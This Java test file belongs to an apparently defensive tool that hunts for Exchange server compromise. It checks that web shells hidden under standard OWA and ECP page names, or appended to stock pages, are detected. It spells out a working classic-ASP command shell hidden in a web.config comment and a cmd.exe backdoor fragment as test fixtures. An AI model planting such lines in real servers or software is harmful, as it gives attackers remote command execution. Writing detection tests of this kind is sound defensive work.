package org.exhunt.hunt;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeSet;
import java.util.stream.Stream;
import org.exhunt.core.Compromise;
import org.exhunt.core.Finding;
import org.exhunt.core.Rows;
import org.exhunt.core.ServerResult;
import org.exhunt.core.Stage;
import org.exhunt.core.Verdict;
import org.exhunt.core.testing.TestEnvironment;
import org.exhunt.evidence.DirectorySource;
import org.exhunt.hunt.detect.PageCodeAudit;
import org.exhunt.hunt.layout.AuthFolderBaseline;
import org.exhunt.hunt.rules.RulePack;
import org.exhunt.testkit.image.Artifacts;
import org.exhunt.testkit.image.StockPages;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Exchange's own page names are no cover (issue 19, item 1): a shell of the public Exchange-intrusion families saved
 * under each name a standard install keeps in the OWA and ECP {@code auth} folders, or appended to that page, makes the
 * Post-exploitation row COMPROMISED with the lines that made it; the stock pages themselves, all of them together as a
 * server holds them, make no finding at all.
 */
class StandardPagesInScanTest {

    private static final String PROXY = TestDrive.INSTALL + "FrontEnd/HttpProxy/";
    private static final Hunt HUNT = Hunt.with(RulePack.bundled(), HuntOptions.defaults());

    /** The public families, as the test kit's inert stand-ins write them. */
    private static final Map<String, byte[]> SHELLS = Map.of(
            "SPORTSBALL (Volexity 2021)", Artifacts.sportsball(),
            "SIMPLESEESHARP (Volexity 2021)", Artifacts.simpleSeeSharp(),
            "China Chopper one-liner (HAFNIUM)", Artifacts.chopper("t"),
            "China Chopper script block (CISA MAR-10328877)", Artifacts.chopperScript("t"),
            "StreamWriter dropper (CISA MAR-10328929)", Artifacts.streamWriterDropper(),
            "GLASSTOKEN (Volexity 2024)", Artifacts.glasstoken(),
            "ASPX command shell", Artifacts.commandShell("c"));

    /**
     * Public samples of the families of the Exchange intrusions in the shared corpus's web-shell collections (read
     * where they lie at run time, never copied): China Chopper's server side, {@code eval(Request.Item[..], "unsafe")},
     * in an XSLT script (HAFNIUM's shell, Microsoft 2021-03-02; the XSLT form is the one CISA MAR-10328877 shows);
     * reGeorg's ASP.NET tunnel (the base of GLASSTOKEN, Volexity 2024-01-10); a cmd.exe shell driven by a posted command
     * (SPORTSBALL's kind, Volexity 2021-03-02); ASPXSpy, the file manager and command shell found on Exchange servers
     * after the 2021 intrusions.
     */
    private static final List<String> CORPUS_SHELLS = List.of(
            "webshells/xl7dev+WebShell/xml/xml.aspx",
            "webshells/xl7dev+WebShell/reGeorg-master/tunnel.aspx",
            "webshells/xl7dev+WebShell/Aspx/Command.aspx",
            "webshells/xl7dev+WebShell/Aspx/ASPXspy.aspx");

    /** The web.config shell's shape: classic ASP in a comment that a handler mapping makes IIS run. */
    private static final String SHELL_LINE = "<% Response.Write(CreateObject(\"WScript.Shell\").Exec(\"cmd /c \" & Request(\"c\")).StdOut.ReadAll()) %>";
    private static final String WEB_CONFIG_SHELL = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\r\n<!-- "
            + SHELL_LINE + " -->\r\n<configuration />\r\n";

    @TempDir
    Path drive;

    static Stream<String> standardPages() {
        return StockPages.PAGES.entrySet().stream()
                .flatMap(e -> e.getValue().stream().filter(n -> n.endsWith(".aspx")).map(n -> e.getKey() + "/" + n));
    }

    static Stream<Arguments> corpusShellUnderEveryStandardName() {
        return standardPages().flatMap(page -> CORPUS_SHELLS.stream().map(shell -> Arguments.of(page, shell)));
    }

    static Stream<Arguments> shellUnderEveryStandardName() {
        return standardPages().flatMap(page -> SHELLS.keySet().stream().sorted().map(shell -> Arguments.of(page, shell)));
    }

    @Test
    void theTestKitsStockPagesAreTheBaselinesNames() {
        AuthFolderBaseline baseline = AuthFolderBaseline.parse("baseline", RulePack.bundled().text(AuthFolderBaseline.FILE), d -> {
            throw new AssertionError(d.toString());
        });
        StockPages.PAGES.forEach((folder, names) -> names.forEach(n -> assertThat(baseline.isStandard(folder, n)).as(n).isTrue()));
        assertThat(StockPages.PAGES.values().stream().mapToInt(List::size).sum()).isEqualTo(baselineLines());
    }

    @Test
    void everyStockPageUnmodifiedMakesNoFinding() throws Exception {
        writeStockPages();

        ServerResult r = HUNT.scan("clean", List.of(new DirectorySource(drive)));

        assertThat(r.findings()).isEmpty();
        assertThat(postExploitation(r).compromise()).isEqualTo(Compromise.CLEAN);
    }

    @ParameterizedTest(name = "{1} as {0}")
    @MethodSource("shellUnderEveryStandardName")
    void aPublicShellUnderAStandardNameIsFoundByItsCode(String page, String shell) throws Exception {
        writeStockPages();
        new TestDrive(drive).write(PROXY + page, SHELLS.get(shell));

        ServerResult r = HUNT.scan("hit", List.of(new DirectorySource(drive)));

        assertStandardPageFoundByItsCode(r, page);
    }

    /** Post-exploitation COMPROMISED, every finding about the page, one of them the page's code with its lines. */
    private static void assertStandardPageFoundByItsCode(ServerResult r, String page) {
        assertThat(postExploitation(r).compromise()).isEqualTo(Compromise.COMPROMISED);
        String name = page.substring(page.lastIndexOf('/') + 1);
        assertThat(r.findings()).as("every finding is about the shell").allSatisfy(f -> assertThat(f.evidence("path")).endsWith("\\" + name));
        assertThat(r.findings()).filteredOn(f -> f.ruleId().equals(PageCodeAudit.RULE)).singleElement().satisfies(f -> {
            assertThat(f.stage()).isEqualTo(Stage.POST_EXPLOITATION);
            assertThat(f.title()).startsWith("Standard page " + name + " holds server-side code");
            assertThat(lines(f)).isNotEmpty().allSatisfy(l -> assertThat(l).matches("\\d+ \\(.+\\): .+"));
        });
    }

    @ParameterizedTest(name = "{1} as {0}")
    @MethodSource("corpusShellUnderEveryStandardName")
    void aPublicSampleFromTheCorpusUnderAStandardNameIsFoundByItsCode(String page, String shell) throws Exception {
        writeStockPages();
        new TestDrive(drive).write(PROXY + page, Files.readAllBytes(TestEnvironment.corpus(shell)));

        ServerResult r = HUNT.scan("hit", List.of(new DirectorySource(drive)));

        assertStandardPageFoundByItsCode(r, page);
    }

    /** The brief's places: ClientAccess, the front end beyond the auth folders, inetpub\\wwwroot (a web.config too). */
    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {
        TestDrive.INSTALL + "ClientAccess/Owa/auth/logon.aspx",
        TestDrive.INSTALL + "ClientAccess/ecp/DDI/RemoteDomains.aspx",
        TestDrive.INSTALL + "FrontEnd/HttpProxy/ecp/handler.ashx",
        "inetpub/wwwroot/iisstart.aspx",
        "inetpub/wwwroot/web.config"})
    void codeIsReadWhereverIisServes(String path) throws Exception {
        new TestDrive(drive).write(path, WEB_CONFIG_SHELL).owaFolder("15.1.2176");

        ServerResult r = HUNT.scan("served", List.of(new DirectorySource(drive)));

        assertThat(r.findings()).filteredOn(f -> f.ruleId().equals(PageCodeAudit.RULE)).singleElement()
                .satisfies(f -> assertThat(lines(f)).containsExactly("2 (starts a process): <!-- " + SHELL_LINE + " -->"));
    }

    /** A site's own intranet page may query a database or read the registry; in Exchange's folders no page does. */
    @Test
    void aSitesOwnPageMayQueryADatabaseButExchangesPagesMayNot() throws Exception {
        String query = "<%@ Page Language=\"C#\" %>\r\n<% var db = new System.Data.SqlClient.SqlConnection(\"Server=sql1\"); %>\r\n";
        new TestDrive(drive).write("inetpub/wwwroot/intranet/phones.aspx", query)
                .write(TestDrive.INSTALL + "FrontEnd/HttpProxy/owa/auth/logon.aspx", query).owaFolder("15.1.2176");

        ServerResult r = HUNT.scan("site", List.of(new DirectorySource(drive)));

        assertThat(r.findings()).filteredOn(f -> f.ruleId().equals(PageCodeAudit.RULE)).singleElement()
                .satisfies(f -> assertThat(f.evidence("path")).endsWith("owa\\auth\\logon.aspx"));
    }

    @Test
    void codeOutsideTheServedFoldersIsNotReadAsAPage() throws Exception {
        new TestDrive(drive).write("Windows/Temp/logon.aspx", WEB_CONFIG_SHELL).owaFolder("15.1.2176");

        ServerResult r = HUNT.scan("elsewhere", List.of(new DirectorySource(drive)));

        assertThat(r.findings()).noneMatch(f -> f.ruleId().equals(PageCodeAudit.RULE));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("standardPages")
    void aStandardPageWithCodeAppendedIsFoundAtTheLineAdded(String page) throws Exception {
        writeStockPages();
        byte[] stock = StockPages.page(page.substring(page.lastIndexOf('/') + 1));
        int lineAdded = new String(stock, StandardCharsets.UTF_8).split("\n", -1).length;
        new TestDrive(drive).write(PROXY + page, concat(stock, Artifacts.pageBackdoor("k")));

        ServerResult r = HUNT.scan("backdoored", List.of(new DirectorySource(drive)));

        assertThat(postExploitation(r).compromise()).isEqualTo(Compromise.COMPROMISED);
        assertThat(r.findings()).filteredOn(f -> f.ruleId().equals(PageCodeAudit.RULE)).singleElement()
                .satisfies(f -> assertThat(lines(f)).first().asString().startsWith(lineAdded + " (starts a process): ")
                        .contains("ProcessStartInfo(\"cmd.exe\", \"/c \" + Request[\"k\"])"));
    }

    private void writeStockPages() throws IOException {
        TestDrive d = new TestDrive(drive);
        for (Map.Entry<String, List<String>> e : StockPages.PAGES.entrySet()) {
            for (String name : e.getValue()) d.write(PROXY + e.getKey() + "/" + name, StockPages.page(name));
        }
        d.owaFolder("15.1.2176");
    }

    private static List<String> lines(Finding f) {
        return f.evidence().stream().filter(e -> e.name().equals("line")).map(e -> e.value()).toList();
    }

    private static Verdict postExploitation(ServerResult r) {
        return r.verdicts().stream().filter(v -> v.row().equals(Rows.POST_EXPLOITATION)).findFirst().orElseThrow();
    }

    private static int baselineLines() {
        List<String> names = new ArrayList<>();
        for (String line : RulePack.bundled().text(AuthFolderBaseline.FILE).split("\n")) {
            if (!line.isBlank() && !line.startsWith("#") && !line.startsWith("folder,")) names.add(line);
        }
        return new TreeSet<>(names).size();
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] out = new byte[a.length + b.length];
        System.arraycopy(a, 0, out, 0, a.length);
        System.arraycopy(b, 0, out, a.length, b.length);
        return out;
    }
}
